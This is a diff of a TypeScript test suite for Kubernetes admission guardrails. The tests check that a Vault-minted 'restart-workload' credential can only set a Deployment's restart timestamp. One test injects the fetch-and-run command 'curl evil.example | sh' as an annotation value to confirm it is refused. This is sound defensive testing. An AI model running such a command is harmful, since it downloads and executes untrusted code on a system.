@@ -1,7 +1,7 @@
 import type { TestContext } from 'node:test';
 import type { KubeAnswer, KubeRequest } from '../../clusters/guardrails/install/kube-request.ts';
-import { done, impersonated, minted, refusedBy, rule, type Lock } from './attempt.ts';
-import type { Bed } from './environment.ts';
+import { done, impersonated, minted, refusedBy, rule, type Guardrail } from './attempt.ts';
+import type { Environment } from './environment.ts';
 
 type Operation = { op: 'add' | 'remove'; path: string; value?: unknown };
 
@@ -9,18 +9,18 @@ const web = '/apis/apps/v1/namespaces/shop/deployments/web';
 const template = '/spec/template';
 const time = `${template}/metadata/annotations/kubectl.kubernetes.io~1restartedAt`;
 const set = (path: string, value: unknown): Operation[] => [{ op: 'add', path, value }];
-const restart = (says: string): Lock => ({ policy: 'airlock-identities', says: `restart-workload: ${says}` });
+const restart = (says: string): Guardrail => ({ policy: 'airlock-identities', says: `restart-workload: ${says}` });
 const now = set(time, '2026-11-21T12:00:00Z');
 
-/** Each beside the one change that is allowed, so that nothing rides along. */
-const refused: [name: string, operations: Operation[], lock: Lock][] = [
+/** Each together with the one allowed change, so that no other change is accepted with it. */
+const refused: [name: string, operations: Operation[], guardrail: Guardrail][] = [
   [
     'an image',
     set(`${template}/spec/containers/0/image`, 'registry.example:5000/shop/web:1'),
-    restart('the pods stay'),
+    restart('the pod spec must not change'),
   ],
-  ['an env literal', set(`${template}/spec/containers/0/env/0/value`, 'slow'), restart('the pods stay')],
-  ['a field of the pod', set(`${template}/spec/hostNetwork`, true), restart('the pods stay')],
+  ['an env literal', set(`${template}/spec/containers/0/env/0/value`, 'slow'), restart('the pod spec must not change')],
+  ['a field of the pod', set(`${template}/spec/hostNetwork`, true), restart('the pod spec must not change')],
   ['a label of the template', set(`${template}/metadata/labels/role`, 'x'), restart("the template's labels, name")],
   [
     "the template's finalizers",
@@ -33,7 +33,7 @@ const refused: [name: string, operations: Operation[], lock: Lock][] = [
     restart("the template's annotations"),
   ],
   [
-    'an annotation of the template gone',
+    'removing an annotation of the template',
     [{ op: 'remove', path: `${template}/metadata/annotations/checksum~1config` }],
     restart("the template's annotations"),
   ],
@@ -41,31 +41,31 @@ const refused: [name: string, operations: Operation[], lock: Lock][] = [
   ['paused', set('/spec/paused', true), restart('only the template of the spec')],
   ['labels', set('/metadata/labels/app', 'db'), restart('labels, owners')],
   ['finalizers', set('/metadata/finalizers', ['a.example/b']), restart('labels, owners')],
-  ["the owner's annotations", set('/metadata/annotations/team', 'x'), restart('annotations other')],
+  ["an annotation of the shop's team", set('/metadata/annotations/team', 'x'), restart('annotations other')],
 ];
 
 const patch = (as: KubeRequest, operations: Operation[], path = web): Promise<KubeAnswer> =>
   as({ method: 'PATCH', path: `${path}?dryRun=All`, contentType: 'application/json-patch+json', body: operations });
 
-/** Lock 4 for `restart-workload`, with a credential that Vault minted. */
-export async function restartWorkloadCases(t: TestContext, bed: Bed): Promise<void> {
-  const as = await minted(bed, 'restart-workload', [rule('deployments', ['web'])]);
-  await t.test("OK: the time, and Airlock's stamp", async () => {
+/** Guardrail 4 for `restart-workload`, with a credential that Vault minted. */
+export async function restartWorkloadCases(t: TestContext, environment: Environment): Promise<void> {
+  const as = await minted(environment, 'restart-workload', [rule('deployments', ['web'])]);
+  await t.test("the time, and Airlock's annotations", async () => {
     done(await patch(as, [...now, ...set('/metadata/annotations/airlock.dev~1execution', 'exe-1.do-1')]));
   });
-  for (const [name, operations, lock] of refused) {
-    await t.test(`refused: ${name}`, async () => refusedBy(lock, await patch(as, [...now, ...operations])));
+  for (const [name, operations, guardrail] of refused) {
+    await t.test(`refused: ${name}`, async () => refusedBy(guardrail, await patch(as, [...now, ...operations])));
   }
-  await t.test('refused: a time that is none, no time at all', async () => {
-    const wanted = restart('kubectl.kubernetes.io/restartedAt is a time');
-    refusedBy(wanted, await patch(as, set(time, 'curl evil.example | sh')));
-    refusedBy(wanted, await patch(as, set('/metadata/annotations/airlock.dev~1execution', 'exe-1.do-1')));
+  await t.test('refused: a value that is not a time, and no value', async () => {
+    const noTime = restart('kubectl.kubernetes.io/restartedAt must be a time');
+    refusedBy(noTime, await patch(as, set(time, 'curl evil.example | sh')));
+    refusedBy(noTime, await patch(as, set('/metadata/annotations/airlock.dev~1execution', 'exe-1.do-1')));
   });
-  await t.test('refused, with RBAC out of the way: scaling, deleting, another namespace', async () => {
-    const free = impersonated(bed, 'system:serviceaccount:shop:airlock-restart-workload-abcd1234');
+  await t.test('refused by admission without RBAC: scaling, deleting, another namespace', async () => {
+    const free = impersonated(environment, 'system:serviceaccount:shop:airlock-restart-workload-abcd1234');
     refusedBy(restart('only a Deployment'), await patch(free, set('/spec/replicas', 3), `${web}/scale`));
     refusedBy(restart('only a Deployment'), await free({ method: 'DELETE', path: `${web}?dryRun=All` }));
-    const elsewhere = impersonated(bed, 'system:serviceaccount:other:airlock-restart-workload-abcd1234');
+    const elsewhere = impersonated(environment, 'system:serviceaccount:other:airlock-restart-workload-abcd1234');
     refusedBy({ policy: 'airlock-identities', says: 'only in its own namespace' }, await patch(elsewhere, now));
   });
 }
